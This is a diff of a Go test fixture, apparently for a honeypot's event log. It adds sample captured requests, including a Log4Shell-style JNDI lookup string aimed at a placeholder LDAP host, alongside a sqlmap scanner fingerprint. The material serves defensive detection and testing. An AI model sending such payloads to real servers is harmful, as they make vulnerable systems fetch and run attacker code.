@@ -76,7 +76,8 @@ func everyEvent() []*event.Event {
 	add(240, "decky-01", "http", "request", event.Scan,
 		event.Evidence{Kind: event.Fingerprint, A: "http_useragent", B: "sqlmap/1.7", Payload: []event.Field{{Key: "category", Value: "scanner"}, {Key: "no good", Value: "x"}}},
 		event.Evidence{Kind: event.Leak, A: "81.2.69.142", B: "X-Forwarded-For", C: "public"},
-		event.Evidence{Kind: event.Leak, A: "127.0.0.1", B: "X-Real-IP", C: "loopback"})
+		event.Evidence{Kind: event.Leak, A: "127.0.0.1", B: "X-Real-IP", C: "loopback"},
+		event.Evidence{Kind: event.Said, A: "/?q=${jndi:ldap://198.51.100.7/a}", B: event.SaidRequest, C: "GET"})
 	add(300, "decky-03", "smtp", "rcpt_to", event.Interaction,
 		event.Evidence{Kind: event.Recipient, A: "acme.com", Outcome: event.Success})
 	add(360, "decky-01", "", "tcp_syn_fingerprint", event.Scan,
